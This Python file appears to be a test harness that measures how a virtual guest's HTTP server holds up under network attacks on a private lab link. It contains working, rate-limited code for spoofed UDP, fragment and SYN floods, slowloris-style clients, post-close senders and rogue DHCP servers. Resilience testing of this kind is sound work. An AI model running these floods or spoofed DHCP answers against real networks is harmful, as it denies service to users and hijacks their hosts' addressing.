"""Bad peers and one good client of a guest, each a program for the host's end of a link.

    python attackers.py good SECONDS        counts visits to the HTTP server, second by second
    python attackers.py NAME SECONDS MAC    one of the attacks below

What they send is bounded: attacker and guest share a machine, and an attack must not be one on
its processors. The last line of each is its count, in JSON.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import random
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any

GUEST, ATTACKER = "10.9.0.2", "10.9.0.50"
ABSENT = [f"10.9.0.{host}" for host in range(100, 200)]
INTERFACE = "host"
BYE, HTTP, ECHO = 13, 80, 7
TICK_S = 0.01
SECOND_NS = 10**9
REQUEST = b"GET / HTTP/1.1\r\nHost: guest\r\n\r\n"
REQUESTS_A_VISIT = 100  # the ports of this host last for some 400 visits a second
PATIENCE_S = 20

DATAGRAMS_A_SECOND = 500
FRAGMENTS_A_SECOND = 2000
SYNS_A_SECOND = 2000
PEERS, SLOW_CLIENTS = 200, 1000
CONNECTIONS_A_SECOND = 50
LATE_BYTES = 4 << 10  # ten times a second


# ---- the good client


def visit() -> None:
    """Connect, ask a few times, close."""
    with socket.create_connection((GUEST, HTTP), PATIENCE_S) as connection:
        for _ in range(REQUESTS_A_VISIT):
            connection.sendall(REQUEST)
            answer = b""
            while b"</h1>" not in answer:
                piece = connection.recv(4096)
                if not piece:
                    raise ConnectionError(f"closed after {answer!r}")
                answer += piece
            if not answer.startswith(b"HTTP/1.1 200 "):
                raise ConnectionError(f"answered {answer!r}")


def good(seconds: int) -> dict[str, Any]:
    """Visit without a break; return the requests answered in each second, and what failed."""
    counts, longest_s = [0.0] * seconds, 0.0
    failures: list[str] = []
    started_s = time.monotonic()
    while (now_s := time.monotonic()) < started_s + seconds:
        try:
            visit()
        except OSError as error:
            failures.append(f"after {now_s - started_s:.1f} s: {error!r}")
        took_s = time.monotonic() - now_s
        longest_s = max(longest_s, took_s)
        # A visit counts in the seconds that it took, in equal parts.
        first, last = (int(min(t - started_s, seconds - 1)) for t in (now_s, now_s + took_s))
        for second in range(first, last + 1):
            counts[second] += REQUESTS_A_VISIT / (last - first + 1)
    return {"counts": counts, "failures": failures, "longest_s": longest_s}


# ---- frames


def paced(seconds: int, rate: int) -> Iterator[int]:
    """Give the number of things to do now, again and again, at `rate` a second."""
    started_s = time.monotonic()
    done = 0
    while (passed_s := time.monotonic() - started_s) < seconds:
        due = int(passed_s * rate) - done
        done += due
        yield due
        time.sleep(TICK_S)


def raw_socket() -> socket.socket:
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW)


def flood(seconds: int, rate: int, frames: Iterator[bytes]) -> dict[str, int]:
    with raw_socket() as packets:
        packets.bind((INTERFACE, 0))
        sent = 0
        for due in paced(seconds, rate):
            for frame in itertools.islice(frames, due):
                with contextlib.suppress(OSError):
                    packets.send(frame)
                    sent += 1
    return {"frames": sent}


def checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv4_frame(
    mac: bytes, source: str, protocol: int, payload: bytes, *, offset: int = 0, identifier: int = 0
) -> bytes:
    """`offset` is the header's field, flags included."""
    head = struct.pack(
        "!BBHHHBBH4s4s",
        *(0x45, 0, 20 + len(payload), identifier, offset, 64, protocol, 0),
        *(socket.inet_aton(source), socket.inet_aton(GUEST)),
    )
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    sender = b"\x02\x00" + socket.inet_aton(source)
    return mac + sender + b"\x08\x00" + head + payload


def pseudo(source: str, protocol: int, length: int) -> bytes:
    addresses = socket.inet_aton(source) + socket.inet_aton(GUEST)
    return addresses + struct.pack("!BBH", 0, protocol, length)


def datagrams(mac: bytes) -> Iterator[bytes]:
    """To the echo port, from neighbours that are not there."""
    for number in itertools.count():
        source = ABSENT[number % len(ABSENT)]
        payload = b"hello, echo!" * 4
        head = struct.pack("!HHHH", 4000 + number % 1000, ECHO, 8 + len(payload), 0)
        yield ipv4_frame(mac, source, socket.IPPROTO_UDP, head + payload)


def fragments(mac: bytes) -> Iterator[bytes]:
    """Each of a datagram of its own that never becomes whole, from anywhere."""
    more, draw = 0x2000, random.Random(3)
    while True:
        source = f"10.{draw.randrange(256)}.{draw.randrange(256)}.{draw.randrange(1, 255)}"
        place = draw.choice((0, 0, 185, 370))
        identifier = draw.randrange(1 << 16)
        payload = draw.randbytes(draw.choice((8, 512, 1480)))
        yield ipv4_frame(
            mac, source, socket.IPPROTO_UDP, payload, offset=more | place, identifier=identifier
        )


def syns(mac: bytes) -> Iterator[bytes]:
    """From neighbours that are not there."""
    draw = random.Random(5)
    for number in itertools.count():
        source = ABSENT[number % len(ABSENT)]
        ports = (draw.randrange(1024, 65536), HTTP)
        head = struct.pack("!HHIIBBHHH", *ports, draw.getrandbits(32), 0, 0x60, 2, 64240, 0, 0)
        segment = head + b"\x02\x04\x05\xb4"  # a maximum segment size of 1460
        total = checksum(pseudo(source, socket.IPPROTO_TCP, len(segment)) + segment)
        segment = segment[:16] + struct.pack("!H", total) + segment[18:]
        yield ipv4_frame(mac, source, socket.IPPROTO_TCP, segment)


def absent_neighbours(seconds: int, mac: bytes) -> dict[str, int]:
    return flood(seconds, DATAGRAMS_A_SECOND, datagrams(mac))


def fragment_flood(seconds: int, mac: bytes) -> dict[str, int]:
    return flood(seconds, FRAGMENTS_A_SECOND, fragments(mac))


def syn_flood(seconds: int, mac: bytes) -> dict[str, int]:
    return flood(seconds, SYNS_A_SECOND, syns(mac))


# ---- connections


class Peer:
    """One of many that behave badly over a connection, and connect again when that has ended."""

    def __init__(self, port: int) -> None:
        self._port = port
        self.socket: socket.socket | None = None
        self.sent = 0
        self.due_s = 0.0

    def connect(self) -> None:
        self.sent = 0
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.socket.bind((ATTACKER, 0))
        self.socket.connect_ex((GUEST, self._port))

    def close(self) -> None:
        if self.socket:
            self.socket.close()
        self.socket = None

    def act(self, act: Callable[[Peer, socket.socket], None]) -> None:
        """Do something to the connection; what fails ends it."""
        try:
            if self.socket:
                act(self, self.socket)
        except BlockingIOError:
            pass
        except OSError:
            self.close()


def connect_some(peers: list[Peer], due: int) -> None:
    for peer in itertools.islice((peer for peer in peers if not peer.socket), due):
        peer.connect()


def close_all(peers: list[Peer]) -> None:
    for peer in peers:
        peer.close()


def send_late(peer: Peer, connection: socket.socket) -> None:
    """Go on sending once the guest has said good-bye, never reading its end."""
    if peer.sent == 0 and not connection.recv(64):
        return
    peer.sent += connection.send(b"x" * LATE_BYTES)


def late_senders(seconds: int, mac: bytes) -> dict[str, int]:
    """Peers that send after the close; each begins anew when it was reset."""
    peers = [Peer(BYE) for _ in range(PEERS)]
    connections = sent = 0
    slices = itertools.cycle(range(10))
    for due in paced(seconds, CONNECTIONS_A_SECOND):
        connections += min(due, sum(peer.socket is None for peer in peers))
        connect_some(peers, due)
        for peer in peers[next(slices) :: 10]:
            if peer.socket:
                before = peer.sent
                peer.act(send_late)
                sent += peer.sent - before
    close_all(peers)
    return {"connections": connections, "bytes": sent}


def send_slowly(peer: Peer, connection: socket.socket) -> None:
    """A request's header, a byte a second; its end never comes."""
    text = b"GET / HTTP/1.1\r\nHost: guest\r\nX-Slow: "
    now_s = time.monotonic()
    if peer.sent and now_s < peer.due_s:
        ready, _, _ = select.select([connection], [], [], 0)
        if ready and not connection.recv(4096):
            raise ConnectionError
        return
    byte = text[peer.sent : peer.sent + 1] or b"a"
    peer.sent += connection.send(byte)
    peer.due_s = now_s + 1


def slow_clients(seconds: int, mac: bytes) -> dict[str, int]:
    peers = [Peer(HTTP) for _ in range(SLOW_CLIENTS)]
    connections = 0
    slices = itertools.cycle(range(10))
    for due in paced(seconds, CONNECTIONS_A_SECOND):
        connections += min(due, sum(peer.socket is None for peer in peers))
        connect_some(peers, due)
        for peer in peers[next(slices) :: 10]:
            if peer.socket:
                peer.act(send_slowly)
    held = sum(peer.socket is not None for peer in peers)
    close_all(peers)
    return {"connections": connections, "held at the end": held}


# ---- DHCP

DISCOVER, OFFER, DHCP_REQUEST, GRANTS, REFUSES = 1, 2, 3, 5, 6
LEASE_S = 8


def dhcp_answer(request: bytes, kind: int, server: str, address: str = "0.0.0.0") -> bytes:
    lease = [(51, struct.pack("!I", LEASE_S)), (1, socket.inet_aton("255.255.255.0"))]
    options = [(53, bytes([kind])), (54, socket.inet_aton(server))]
    options += [] if kind == REFUSES else lease
    text = b"".join(bytes([code, len(value)]) + value for code, value in options)
    return (
        b"\x02\x01\x06\x00"
        + request[4:12]
        + bytes(4)
        + socket.inet_aton(address)
        + bytes(8)
        + request[28:44]
        + bytes(192)
        + b"\x63\x82\x53\x63"
        + text
        + b"\xff"
    )


def dhcp_kind(request: bytes) -> int | None:
    at = 240
    while at < len(request) and request[at] != 255:
        if request[at] == 53:
            return request[at + 2]
        at += 2 + request[at + 1] if request[at] else 1
    return None


def dhcp_frame(answer: bytes, server: str, mac: bytes) -> bytes:
    """To everybody, since the client may have no address."""
    head = struct.pack("!HHHH", 67, 68, 8 + len(answer), 0)
    frame = ipv4_frame(mac, server, socket.IPPROTO_UDP, head + answer)
    frame = frame[:30] + b"\xff\xff\xff\xff" + frame[34:]  # where the packet goes
    ip = frame[14:24] + b"\0\0" + frame[26:34]
    return frame[:24] + struct.pack("!H", checksum(ip)) + frame[26:]


def dhcp_requests(seconds: int) -> Iterator[bytes]:
    """Give what a DHCP client says, and None now and then."""
    with raw_socket() as packets:
        packets.bind((INTERFACE, 0x0800))
        packets.settimeout(0.1)
        deadline_s = time.monotonic() + seconds
        while time.monotonic() < deadline_s:
            try:
                frame, where = packets.recvfrom(2048)
            except TimeoutError:
                continue
            is_own = where[2] == socket.PACKET_OUTGOING
            if not is_own and frame[23:24] == b"\x11" and frame[34:38] == b"\x00\x44\x00\x43":
                yield frame[42:]


def dhcp_servers(seconds: int, mac: bytes, answers: dict[int, str]) -> dict[str, int]:
    """Offer an address for some seconds, and answer requests as said: kind and server."""
    counts: dict[str | int, int] = {"heard": 0, GRANTS: 0, REFUSES: 0}
    with raw_socket() as packets:
        packets.bind((INTERFACE, 0))
        for request in dhcp_requests(seconds):
            counts["heard"] += 1
            answers_now: dict[int, str] = {}
            if dhcp_kind(request) == DISCOVER:
                answers_now = {OFFER: "10.9.0.1"}
            elif dhcp_kind(request) == DHCP_REQUEST:
                answers_now = answers
            for kind, server in answers_now.items():
                counts[kind] = counts.get(kind, 0) + 1
                address = "0.0.0.0" if kind == REFUSES else GUEST
                answer = dhcp_answer(request, kind, server, address)
                packets.send(dhcp_frame(answer, server, b"\xff" * 6))
    return {str(kind): count for kind, count in counts.items()}


def granting_server(seconds: int, mac: bytes) -> dict[str, int]:
    return dhcp_servers(seconds, mac, {GRANTS: "10.9.0.1"})


def refusing_neighbour(seconds: int, mac: bytes) -> dict[str, int]:
    """A rival of the server refuses each request; the server goes on granting."""
    return dhcp_servers(seconds, mac, {REFUSES: "10.9.0.3", GRANTS: "10.9.0.1"})


def refusing_server(seconds: int, mac: bytes) -> dict[str, int]:
    """The server itself offers, and refuses every request."""
    return dhcp_servers(seconds, mac, {REFUSES: "10.9.0.1"})


ATTACKS = {
    attack.__name__: attack
    for attack in (
        *(late_senders, absent_neighbours, fragment_flood, slow_clients, syn_flood),
        *(granting_server, refusing_neighbour, refusing_server),
    )
}

if __name__ == "__main__":
    name, seconds = sys.argv[1], int(sys.argv[2])
    if name == "good":
        print(json.dumps(good(seconds)))
    else:
        print(json.dumps(ATTACKS[name](seconds, bytes.fromhex(sys.argv[3].replace(":", "")))))
